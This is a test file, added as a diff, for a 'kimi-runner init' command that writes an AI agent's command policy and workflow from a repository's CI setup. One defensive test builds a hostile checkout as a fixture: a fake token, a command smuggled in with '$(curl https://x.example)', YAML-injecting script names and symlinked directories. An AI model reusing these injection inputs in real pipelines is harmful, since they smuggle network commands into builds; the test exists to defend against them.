@@ -1,0 +1,106 @@
+/** `kimi-runner init` on real repositories: what it writes, what the policy decides, and what a second run and a hostile checkout change. */
+
+import assert from "node:assert/strict";
+import { existsSync, mkdtempSync, rmSync, symlinkSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { test } from "node:test";
+import { parse } from "yaml";
+import { explain } from "../../src/policy/explain.ts";
+import { loadPolicy } from "../../src/policy/file/load.ts";
+import { cliHere } from "../doubles/cli-here.ts";
+import { createRepository, type TemporaryRepository } from "../doubles/repository.ts";
+
+const POLICY = ".github/kimi-policy.yml";
+const WORKFLOW = ".github/workflows/kimi.yml";
+const FILES = {
+  "package.json": JSON.stringify({ scripts: { test: "node --test", lint: "eslint .", ship: "npm publish" } }),
+  "package-lock.json": "{}",
+  ".github/workflows/ci.yml":
+    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n      - run: npm test\n      - run: npm run lint\n",
+};
+
+function init(repository: TemporaryRepository, ...flags: readonly string[]) {
+  return cliHere(["init", "--no-try", ...flags], { cwd: repository.dir, env: {} });
+}
+
+test("a policy and a workflow that fit; the same bytes again; a person's change stays", async () => {
+  using repository = createRepository({ files: FILES });
+  const first = await init(repository);
+  assert.equal(first.code, 0, first.stderr);
+  const text = repository.read(POLICY);
+  const written = parse(text) as { limits: { verify: readonly string[] }; sandbox: object };
+  assert.deepEqual(
+    [written.limits.verify, written.sandbox],
+    [["npm test", "npm run lint"], { setup: { run: ["npm ci"], network: ["npm"] } }],
+  );
+  assert.match(text, /- npm test # ci\.yml:7\n/);
+  const policy = await loadPolicy(text, { file: POLICY });
+  const verdict = (command: string): string => {
+    const answer = explain(policy, { subject: "command", text: command }, { rung: "sealed" });
+    return typeof answer === "string" ? answer : answer.verdict;
+  };
+  assert.deepEqual(
+    ["npm test", "node x.js | head", "npm run ship", "npm publish --tag next", "git push", "docker build ."].map(
+      verdict,
+    ),
+    ["approve", "approve", "defer", "defer", "defer", "reject"],
+  );
+  assert.equal(repository.read(WORKFLOW).includes("KIMI_API_KEY"), true);
+
+  repository.write("package.json", FILES["package.json"].replace("ship", "release"));
+  repository.commit("rename");
+  const second = await init(repository);
+  assert.match(
+    second.stdout,
+    /^wrote \.github\/kimi-policy\.yml again[^]*^-.*npm run ship[^]*kimi\.yml is as it would be written\n/m,
+  );
+
+  const own = repository.read(POLICY).replace("steps: 100", "steps: 5");
+  repository.write(POLICY, own);
+  const third = await init(repository);
+  assert.match(third.stdout, /kimi-policy\.yml was changed by people[^]*^-  steps: 5\n\+  steps: 100\n/m);
+  assert.equal(repository.read(POLICY), own);
+});
+
+test("--dry-run writes nothing; --schedule and --review add their workflows; --strict lists commands", async () => {
+  using repository = createRepository({ files: FILES });
+  const { stdout } = await init(repository, "--dry-run", "--schedule", "--review", "--strict");
+  const paths = Array.from(stdout.matchAll(/^# (\.github\/\S+)$/gm), ([, path]) => path);
+  assert.deepEqual(paths, [
+    POLICY,
+    WORKFLOW,
+    ".github/workflows/kimi-nightly.yml",
+    ".github/workflows/kimi-review.yml",
+  ]);
+  assert.match(stdout, /exec:\n +- npm test \*\* # ci\.yml:7\n +- npm run lint \*\* # ci\.yml:8\n +- git-read/);
+  assert.equal(existsSync(join(repository.dir, POLICY)), false);
+});
+
+test("a hostile checkout: what is not committed, links, large files and names that look like YAML change nothing", async () => {
+  const elsewhere = mkdtempSync(join(tmpdir(), "kimi-init-"));
+  try {
+    using repository = createRepository({
+      files: {
+        "package.json": `{"scripts":{"test":"node --test","a: b\\n# x":"git push","\\u0001ship}":"npm publish"}}`,
+        Makefile: "x".repeat(1_000_001),
+        ".github/workflows/ci.yml":
+          "on: push\njobs:\n  a:\n    steps:\n      - run: TOKEN=ghp_0123456789abcdefghij0123456789abcdef npm test\n      - run: npm test $(curl https://x.example)\n",
+      },
+    });
+    repository.write("go.mod", "module uncommitted\n");
+    const dry = await init(repository, "--dry-run");
+    assert.equal(dry.code, 0, dry.stderr);
+    assert.deepEqual([/ghp_/.test(dry.stdout + dry.stderr), /go\.mod/.test(dry.stdout)], [false, false]);
+    assert.match(dry.stderr, /^ {2}test {7}npm test \(package\.json:1\)$/m);
+    assert.match(dry.stderr, /not decided: Makefile: it was not read: larger than 1 MB/);
+    symlinkSync(elsewhere, join(repository.dir, ".github/linked"));
+    rmSync(join(repository.dir, ".github"), { recursive: true });
+    symlinkSync(elsewhere, join(repository.dir, ".github"));
+    const end = await init(repository);
+    assert.deepEqual([end.code, existsSync(join(elsewhere, "kimi-policy.yml"))], [1, false]);
+    assert.match(end.stderr, /\.github is a symbolic link; nothing was written/);
+  } finally {
+    rmSync(elsewhere, { recursive: true });
+  }
+});
